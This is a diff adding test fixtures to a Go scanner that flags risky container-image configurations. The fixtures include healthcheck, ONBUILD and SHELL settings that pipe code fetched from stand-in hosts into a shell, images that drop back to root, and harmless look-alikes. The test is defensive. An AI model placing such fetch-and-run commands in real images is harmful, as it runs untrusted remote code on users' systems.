@@ -152,6 +152,50 @@ func classImages(t testing.TB) ([]testImage, []hit) {
 		hit{rule: "written-through-link-into-system-dir", path: "/usr/bin/ls", layer: 2},
 		hit{rule: "system-binary-replaced", path: "/usr/bin/ls", layer: 2},
 		hit{rule: "system-binary-fleet-drift", path: "/usr/bin/ls", layer: 2})
+
+	// 12. A healthcheck, an ONBUILD trigger and a SHELL that fetch and run
+	// code, and an image that drops to a user and goes back to root; then
+	// their look-alikes, which must give nothing: a healthcheck probing a
+	// URL, ONBUILD fetching a key it only reads, a SHELL with options, an
+	// image that is root for one step and ends non-root, and one that
+	// never leaves root.
+	userSteps := func(user string, steps ...string) func(*v1.ConfigFile) {
+		return func(cf *v1.ConfigFile) {
+			for _, s := range steps {
+				cf.History = append(cf.History, v1.History{CreatedBy: s, EmptyLayer: true})
+			}
+			cf.Config.User = user
+		}
+	}
+	fetchHealth := img("test/health-fetch")
+	fetchHealth.config = func(cf *v1.ConfigFile) {
+		cf.Config.Healthcheck = &v1.HealthConfig{Test: []string{"CMD-SHELL", "wget -qO- http://updates.example.net/h.sh | sh"}, Interval: 30e9}
+	}
+	add(fetchHealth, hit{rule: "config-fetch-and-run", layer: -1})
+	fetchBuild := img("test/onbuild-fetch")
+	fetchBuild.config = func(cf *v1.ConfigFile) {
+		cf.Config.OnBuild = []string{"COPY . /src", "RUN curl -fsSL -o /tmp/agent http://203.0.113.9/a && chmod +x /tmp/agent && /tmp/agent"}
+		cf.Config.Shell = []string{"/bin/bash", "-c", "curl -s http://cdn.example.org/p | bash; exec bash -c \"$0\""}
+	}
+	add(fetchBuild, hit{rule: "config-fetch-and-run", layer: -1}, hit{rule: "config-fetch-and-run", layer: -1})
+	backToRoot := img("test/user-back-to-root")
+	backToRoot.config = userSteps("root", "USER app", "/bin/sh -c #(nop)  USER [root]")
+	add(backToRoot, hit{rule: "history-user-back-to-root", layer: -1})
+	noUser := img("test/user-unset")
+	noUser.config = userSteps("", "/bin/sh -c #(nop) USER 1000:1000")
+	add(noUser, hit{rule: "history-user-back-to-root", layer: -1})
+	lookalikes := img("test/config-lookalikes")
+	lookalikes.config = func(cf *v1.ConfigFile) {
+		userSteps("nginx", "USER root", "/bin/sh -c echo USER root >> /etc/motd", "USER nginx")(cf)
+		cf.Config.Healthcheck = &v1.HealthConfig{Test: []string{"CMD-SHELL", "curl -f http://localhost:8080/health || exit 1"}}
+		cf.Config.OnBuild = []string{"RUN curl -fsSLo /usr/share/keyrings/x.gpg https://example.com/key.gpg && chmod 644 /usr/share/keyrings/x.gpg",
+			"RUN wget -q --spider http://localhost/ && echo ok"}
+		cf.Config.Shell = []string{"/bin/bash", "-o", "pipefail", "-c"}
+	}
+	add(lookalikes)
+	rootOnly := img("test/root-only")
+	rootOnly.config = userSteps("0:0", "USER root", "/bin/sh -c #(nop) USER 0")
+	add(rootOnly)
 	return imgs, want
 }
 
